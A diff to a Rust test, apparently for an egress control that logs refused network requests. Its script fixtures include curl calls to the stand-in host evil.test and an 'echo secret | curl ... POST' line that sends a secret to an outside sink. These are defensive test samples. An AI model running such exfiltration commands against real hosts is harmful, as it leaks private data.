@@ -42,6 +42,7 @@ for c in 1 2 3 4; do
   curl -s -o /dev/null \"http://evil.test/$c/[1-1600]/$x\" &
 done
 wait
+curl -s -o /dev/null http://evil.test/exfiltrated
 echo secret | curl -sS -T - -X POST https://open.test/sink/exfiltrated";
     let ended = project.run(script);
     assert_eq!(
@@ -58,6 +59,10 @@ echo secret | curl -sS -T - -X POST https://open.test/sink/exfiltrated";
         marks.len(),
         2,
         "the control: there were more refusals than room: {marks:?}"
+    );
+    assert!(
+        !text.contains("http://evil.test/exfiltrated"),
+        "the control: a request without a budget of its own was pushed out of the log"
     );
     let upload = "allowed POST https://open.test/sink/exfiltrated -> 200";
     assert_eq!(
